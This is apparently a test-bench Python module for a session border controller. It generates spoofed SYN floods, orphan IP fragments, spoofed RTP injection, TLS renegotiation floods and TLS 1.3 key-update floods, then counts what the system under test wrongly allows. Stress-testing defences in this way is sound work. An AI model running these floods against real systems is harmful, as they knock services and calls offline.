"""What `sbc attack-sim` has no business to do: spoofed packets, and TLS in which only the handshake goes on. Run by tests/bench/attack.py.

`python -m tests.bench.hostile KIND ADDRESS PORT RATE SECONDS`, as root, in the attacker's namespace; prints what was done and what
of it was wrongly allowed.
"""

from __future__ import annotations

import ctypes
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

from sbc.flow import Address
from sbc.probe.attack import paced
from tests.bench.generator import SPEECH_PORT

SPOOFED = "198.18.0.0/15"  # RFC 2544: of nobody
PORTS = 100  # of media, that RTP is sent to
THREADS = 8  # connections at a time
PATIENCE = struct.pack("ll", 2, 0)  # SO_RCVTIMEO
SSL_CTRL_SET_MAX_PROTO_VERSION, TLS_1_2, UPDATE_REQUESTED = 124, 0x0303, 1  # openssl/ssl.h

Made = tuple[int, int]  # done, wrongly allowed


def raw() -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def ip_packet(source: bytes, to: str, protocol: int, payload: bytes, number: int = 0, fragment: int = 0) -> bytes:
    """The kernel fills in what is zero."""
    size = 20 + len(payload)
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, size, number & 0xFFFF, fragment, 64, protocol, 0, source, socket.inet_aton(to)) + payload


def datagram(source: str, to: str, port: int, data: bytes, source_port: int = 5060) -> bytes:
    udp = struct.pack("!HHHH", source_port, port, 8 + len(data), 0) + data
    return ip_packet(socket.inet_aton(source), to, socket.IPPROTO_UDP, udp)


def _spoofed() -> bytes:
    return struct.pack("!I", 0xC6120000 | random.getrandbits(17))


def flood(make: Callable[[Address, int], bytes]) -> Callable[[Address, int, float], Made]:
    def attack(to: Address, rate: int, seconds: float) -> Made:
        done = 0
        with raw() as sock:
            for due in paced(rate, seconds):
                for _ in range(due):
                    with suppress(OSError):
                        sock.sendto(make(to, done), (to[0], 0))
                    done += 1
        return done, 0

    return attack


def syn(to: Address, number: int) -> bytes:
    """From another address each."""
    source = _spoofed()
    head = struct.pack("!HHIIBBHHH", 1024 + number % 60000, to[1], random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    total = sum(struct.unpack("!16H", source + socket.inet_aton(to[0]) + struct.pack("!HH", 6, len(head)) + head))
    total = (total & 0xFFFF) + (total >> 16)
    return ip_packet(
        source, to[0], socket.IPPROTO_TCP, head[:16] + struct.pack("!H", 0xFFFF - (total & 0xFFFF) - (total >> 16)) + head[18:]
    )


def pieces(to: Address, number: int) -> bytes:
    """The first fragment of a datagram that has no other."""
    udp = struct.pack("!HHHH", 5060, to[1], 1400, 0) + b"INVITE sip:100@example.com SIP/2.0\r\n" + b"a" * 500
    return ip_packet(_spoofed(), to[0], socket.IPPROTO_UDP, udp[: len(udp) & ~7], number, 0x2000)


def inject(to: Address, number: int) -> bytes:
    """RTP as it is in the calls, from the port it comes from, but from other addresses: our own, a neighbour's, anybody's."""
    rtp = struct.pack("!BBHII", 0x80, 8, number & 0xFFFF, 160 * number & 0xFFFFFFFF, 0x5EED) + b"\x2a" * 160
    source = ("10.99.1.9", "10.99.1.77", socket.inet_ntoa(_spoofed()))[number % 3]
    return datagram(source, to[0], to[1] + 2 * (number % PORTS), rtp, SPEECH_PORT)


class Tls:
    """Just enough of libssl for what Python's own does not let anybody do."""

    def __init__(self, newest: int = 0) -> None:
        self._lib = lib = ctypes.CDLL("libssl.so.3")
        for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
            getattr(lib, name).restype = ctypes.c_void_p
        lib.SSL_CTX_ctrl.restype = ctypes.c_long
        lib.SSL_CTX_ctrl.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_long, ctypes.c_void_p]
        for name in ("SSL_CTX_new", "SSL_new", "SSL_connect", "SSL_do_handshake", "SSL_renegotiate", "SSL_free"):
            getattr(lib, name).argtypes = [ctypes.c_void_p]
        lib.SSL_set_fd.argtypes = lib.SSL_key_update.argtypes = [ctypes.c_void_p, ctypes.c_int]
        self._context = lib.SSL_CTX_new(lib.TLS_client_method())
        if newest:
            lib.SSL_CTX_ctrl(self._context, SSL_CTRL_SET_MAX_PROTO_VERSION, newest, None)

    def connect(self, to: Address) -> tuple[socket.socket, int]:
        """Raises OSError. The second: for the others."""
        sock = socket.socket()
        for option in (socket.SO_RCVTIMEO, socket.SO_SNDTIMEO):
            sock.setsockopt(socket.SOL_SOCKET, option, PATIENCE)
        try:
            sock.connect(to)
        except OSError:
            sock.close()
            raise
        connection = int(self._lib.SSL_new(self._context))
        self._lib.SSL_set_fd(connection, sock.fileno())
        if self._lib.SSL_connect(connection) != 1:
            self.close(sock, connection)
            raise OSError("no handshake")
        return sock, connection

    def renegotiate(self, connection: int) -> bool:
        """Whether the other side did."""
        self._lib.SSL_renegotiate(connection)
        return bool(self._lib.SSL_do_handshake(connection) == 1)

    def update(self, connection: int) -> bool:
        """New keys, and the other side shall have new ones, too."""
        return bool(self._lib.SSL_key_update(connection, UPDATE_REQUESTED) == 1 and self._lib.SSL_do_handshake(connection) == 1)

    def close(self, sock: socket.socket, connection: int) -> None:
        self._lib.SSL_free(connection)
        sock.close()


def renegotiations(to: Address, rate: int, seconds: float) -> Made:
    """Handshakes of TLS 1.2, each followed by another on the same connection."""
    tls, end = Tls(TLS_1_2), time.monotonic() + seconds

    def some() -> Made:
        done = allowed = 0
        for due in paced(max(1, rate // THREADS), seconds):
            for _ in range(due):
                if time.monotonic() > end:
                    break
                with suppress(OSError):
                    sock, connection = tls.connect(to)
                    allowed += tls.renegotiate(connection)
                    done += 1
                    tls.close(sock, connection)
        return done, allowed

    return _together(some)


def key_updates(to: Address, rate: int, seconds: float) -> Made:
    """On a few connections of TLS 1.3: each costs the other side a derivation of keys or two, and is 27 octets."""
    tls = Tls()

    def some() -> Made:
        done = 0
        held: tuple[socket.socket, int] | None = None
        for due in paced(max(1, rate // THREADS), seconds):
            try:
                held = held or tls.connect(to)
                for _ in range(due):
                    if not tls.update(held[1]):
                        raise OSError("closed")
                    done += 1
                while held[0].recv(65536, socket.MSG_DONTWAIT):
                    pass
                raise OSError("closed")
            except BlockingIOError:
                continue
            except OSError:
                if held is not None:
                    tls.close(*held)
                held = None
        return done, 0

    return _together(some)


def _together(some: Callable[[], Made]) -> Made:
    with ThreadPoolExecutor(THREADS) as threads:
        made = [each.result() for each in [threads.submit(some) for _ in range(THREADS)]]
    return sum(done for done, _ in made), sum(allowed for _, allowed in made)


KINDS: Mapping[str, Callable[[Address, int, float], Made]] = {
    "syn": flood(syn),
    "pieces": flood(pieces),
    "inject": flood(inject),
    "renegotiation": renegotiations,
    "key-updates": key_updates,
}


def main() -> None:
    kind, host, port, rate, seconds = sys.argv[1:]
    done, allowed = KINDS[kind]((host, int(port)), int(rate), float(seconds))
    print(done, allowed, flush=True)
    os._exit(0)  # threads may still wait for whoever does not answer


if __name__ == "__main__":
    main()
